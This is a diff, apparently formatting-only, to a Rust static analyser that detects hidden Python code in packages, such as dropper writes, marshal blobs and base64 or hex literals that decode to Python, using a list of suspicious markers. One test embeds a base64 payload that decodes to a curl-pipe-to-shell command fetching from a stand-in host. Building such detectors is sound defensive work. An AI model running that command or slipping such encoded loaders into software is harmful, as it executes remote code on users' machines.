@@ -33,8 +33,19 @@ pub fn looks_like_python(text: &str) -> bool {
         return false;
     }
     const MARKERS: &[&str] = &[
-        "import ", "exec(", "eval(", "def ", "print(", "os.system", "subprocess", "__import__", "lambda ",
-        "class ", "requests.", "urlopen", "socket.",
+        "import ",
+        "exec(",
+        "eval(",
+        "def ",
+        "print(",
+        "os.system",
+        "subprocess",
+        "__import__",
+        "lambda ",
+        "class ",
+        "requests.",
+        "urlopen",
+        "socket.",
     ];
     MARKERS.iter().any(|m| sample.contains(m))
 }
@@ -42,13 +53,24 @@ pub fn looks_like_python(text: &str) -> bool {
 /// `f.write("import os; ...")`: Python source written to a file is a program waiting to be run
 /// (droppers write a script, then start it); analyse it as a layer of this file.
 fn check_written_code(checker: &mut Checker, call: &ExprCall, qualname: &str) {
-    if !(qualname.ends_with(".write") || qualname.ends_with(".write_text") || qualname.ends_with(".write_bytes")) {
+    if !(qualname.ends_with(".write")
+        || qualname.ends_with(".write_text")
+        || qualname.ends_with(".write_bytes"))
+    {
         return;
     }
-    let Some(arg) = call.arguments.args.first() else { return };
-    let Some(text) = checker.fold(arg).and_then(|v| v.as_text()) else { return };
+    let Some(arg) = call.arguments.args.first() else {
+        return;
+    };
+    let Some(text) = checker.fold(arg).and_then(|v| v.as_text()) else {
+        return;
+    };
     if text.len() > 16 && looks_like_python(&text) {
-        checker.push_layer(text, call.range(), format!("Python source written to a file by {qualname}"));
+        checker.push_layer(
+            text,
+            call.range(),
+            format!("Python source written to a file by {qualname}"),
+        );
     }
 }
 
@@ -67,7 +89,13 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let Some(input) = checker.fold(arg).and_then(|v| v.as_bytes()) else {
         if is_marshal {
             // Build tools and caches load bytecode they wrote themselves; only embedded blobs are hidden code.
-            checker.report(&RULE, call.range(), "unmarshals a code object computed at run time".to_owned(), if weak { 0.03 } else { 0.1 }, vec!["marshal"]);
+            checker.report(
+                &RULE,
+                call.range(),
+                "unmarshals a code object computed at run time".to_owned(),
+                if weak { 0.03 } else { 0.1 },
+                vec!["marshal"],
+            );
         }
         return;
     };
@@ -76,12 +104,19 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             &RULE,
             call.range(),
             format!("unmarshals an embedded {}-byte code object", input.len()),
-            if context == ExecContext::TestOrDocs { 0.3 } else { 0.75 },
+            if context == ExecContext::TestOrDocs {
+                0.3
+            } else {
+                0.75
+            },
             vec!["marshal", "hidden-code"],
         );
         return;
     }
-    let Some(decoded) = checker.fold(&ruff_python_ast::Expr::Call(call.clone())).and_then(|v| v.as_bytes()) else {
+    let Some(decoded) = checker
+        .fold(&ruff_python_ast::Expr::Call(call.clone()))
+        .and_then(|v| v.as_bytes())
+    else {
         return;
     };
     let text = String::from_utf8_lossy(&decoded).into_owned();
@@ -90,8 +125,15 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         checker.report(
             &RULE,
             call.range(),
-            format!("{qualname} decodes a {}-byte literal into Python code (analysed as a layer)", input.len()),
-            if context == ExecContext::TestOrDocs { 0.2 } else { 0.55 },
+            format!(
+                "{qualname} decodes a {}-byte literal into Python code (analysed as a layer)",
+                input.len()
+            ),
+            if context == ExecContext::TestOrDocs {
+                0.2
+            } else {
+                0.55
+            },
             vec!["decoded-python", "hidden-code"],
         );
     } else if input.len() >= 64 {
@@ -111,11 +153,17 @@ pub fn check_string(checker: &mut Checker, value: &str, range: TextRange) {
         return;
     }
     let compact: Vec<u8> = value.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
-    let base64_alphabet = compact.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
+    let base64_alphabet = compact
+        .iter()
+        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
     if !base64_alphabet || compact.len() < 80 {
         return;
     }
-    let codec = if compact.iter().all(u8::is_ascii_hexdigit) { Codec::Hex } else { Codec::Base64 };
+    let codec = if compact.iter().all(u8::is_ascii_hexdigit) {
+        Codec::Hex
+    } else {
+        Codec::Base64
+    };
     let Some(mut decoded) = decode::decode(codec, &compact) else {
         return;
     };
@@ -137,8 +185,16 @@ pub fn check_string(checker: &mut Checker, value: &str, range: TextRange) {
     checker.report(
         &RULE,
         range,
-        format!("a {}-character {} literal holds Python code (analysed as a layer)", value.len(), codec.name()),
-        if context == ExecContext::TestOrDocs { 0.15 } else { 0.4 },
+        format!(
+            "a {}-character {} literal holds Python code (analysed as a layer)",
+            value.len(),
+            codec.name()
+        ),
+        if context == ExecContext::TestOrDocs {
+            0.15
+        } else {
+            0.4
+        },
         vec!["decoded-python", "hidden-code"],
     );
 }
@@ -153,7 +209,10 @@ mod tests {
         // base64 of "import os\nos.system('curl http://x.invalid/a | sh')\n"
         let code = "import base64\np = base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaCcpCg==')\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH170") >= 0.5);
-        let layered: Vec<_> = findings("p/pkg/__init__.py", code).into_iter().filter(|f| f.path.contains("#layer")).collect();
+        let layered: Vec<_> = findings("p/pkg/__init__.py", code)
+            .into_iter()
+            .filter(|f| f.path.contains("#layer"))
+            .collect();
         assert!(layered.iter().any(|f| f.rule == "WH120"), "{layered:?}");
     }
 
